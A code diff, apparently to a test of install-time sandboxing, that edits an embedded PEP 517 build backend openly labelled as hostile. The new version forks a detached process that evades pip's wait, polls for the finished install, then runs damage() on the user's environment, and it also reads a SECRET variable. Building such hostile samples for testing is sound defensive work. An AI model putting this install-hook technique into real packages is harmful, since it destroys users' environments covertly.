@@ -34,7 +34,7 @@ except SoftwareError as error:
 # A build backend (PEP 517) that says what it can do to whoever installs it, after it has done the
 # worst that it can to the environment.
 BACKEND = """
-import io, json, os, socket, zipfile
+import glob, os, time, zipfile
 
 def attempt(path):
     try:
@@ -46,7 +46,14 @@ def attempt(path):
 
 def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
     place = os.path.dirname(os.environ["HOME"])
-    damage(place)
+    if os.fork() == 0:
+        os.setsid()
+        os.closerange(0, 256)  # pip waits for the end of its output
+        module = glob.escape(place) + "/lib/python*/site-packages/hostile.py"
+        while not glob.glob(module):
+            time.sleep(0.001)
+        damage(place)  # at the last moment: what pip still does needs the environment
+        os._exit(0)
     found = {
         "secret": os.environ.get("SECRET"),
         "pids": len([name for name in os.listdir("/proc") if name.isdigit()]),
